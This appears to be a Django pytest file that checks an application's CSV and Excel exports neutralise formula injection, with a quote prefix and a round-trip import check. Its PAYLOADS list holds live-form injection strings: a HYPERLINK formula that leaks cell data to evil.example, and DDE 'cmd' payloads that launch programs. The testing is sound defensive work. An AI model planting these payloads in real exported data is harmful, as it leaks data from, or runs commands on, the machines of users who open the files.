"""CSV and formula injection in every export (ASVS 5.0 V1.2.10)."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from agreements.models import Schedule
from almo_sla.exports import neutralise
from reporting.models import Departure, StandardResult
from tests.security.helpers import env_draft_return

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_asvs_v1_2_10_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
    for value in PAYLOADS:
        assert neutralise(value) == "'" + value
    for value in [-5, Decimal("-1200.50"), 0, 3.5, None, "Legal advice", "2025-09-30", "'=already"]:
        assert neutralise(value) == value


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_safe(response, fmt, payload):
    """The payload is in the file, quoted, and never as a formula."""
    if fmt == "csv":
        values = [value for row in csv_rows(response) for value in row]
        assert "'" + payload in values, values
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in values)
    else:
        cells = xlsx_cells(response)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert "'" + payload in [c.value for c in cells]


@pytest.fixture
def schedule(demo_data):
    return Schedule.objects.filter(agreement=demo_data["main"]).select_related("service").order_by("pk").first()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asvs_v1_2_10_agreements_list_export(client_as, demo_data, fmt):
    payload = PAYLOADS[0]
    demo_data["main"].__class__.objects.filter(pk=demo_data["main"].pk).update(title=payload)
    response = client_as("coordinator").get(reverse("agreements:agreement_list") + f"?_export={fmt}")
    assert_safe(response, fmt, payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asvs_v1_2_10_schedules_export(client_as, schedule, fmt):
    payload = PAYLOADS[1]
    schedule.service.__class__.objects.filter(pk=schedule.service_id).update(name=payload)
    response = client_as("coordinator").get(reverse("agreements:schedule_list") + f"?_export={fmt}")
    assert_safe(response, fmt, payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asvs_v1_2_10_departures_export(client_as, demo_data, fmt):
    payload = PAYLOADS[3]
    departure = Departure.objects.filter(result__quarterly_return__agreement=demo_data["main"]).first()
    Departure.objects.filter(pk=departure.pk).update(reason=payload)
    response = client_as("coordinator").get(reverse("reporting:departure_list") + f"?_export={fmt}")
    assert_safe(response, fmt, payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asvs_v1_2_10_costs_export_quotes_text_and_keeps_numbers_numbers(client_as, schedule, fmt):
    payload = PAYLOADS[2]
    Schedule.objects.filter(pk=schedule.pk).update(cost_basis=payload)
    response = client_as("coordinator").get(reverse("services:costs") + f"?export={fmt}")
    assert_safe(response, fmt, payload)
    if fmt == "xlsx":
        numbers = [c for c in xlsx_cells(response) if c.column == 11 and c.row > 1]  # "Change (£)"
        assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_asvs_v1_2_10_return_template_quotes_commentary_and_reads_it_back_as_typed(client_as, demo_data, fmt):
    payload = PAYLOADS[0]
    ret = env_draft_return(demo_data)
    result = StandardResult.objects.filter(quarterly_return=ret).order_by("pk").first()
    StandardResult.objects.filter(pk=result.pk).update(commentary=payload)
    client = client_as("environment.officer")
    response = client.get(reverse("reporting:return_template", args=[ret.pk, fmt]))
    assert_safe(response, fmt, payload)
    # the downloaded file imports unchanged: the quote is not added to the commentary
    upload = SimpleUploadedFile(f"return.{fmt}", response.content)
    client.post(reverse("reporting:return_import", args=[ret.pk]), {"file": upload})
    result.refresh_from_db()
    assert result.commentary == payload
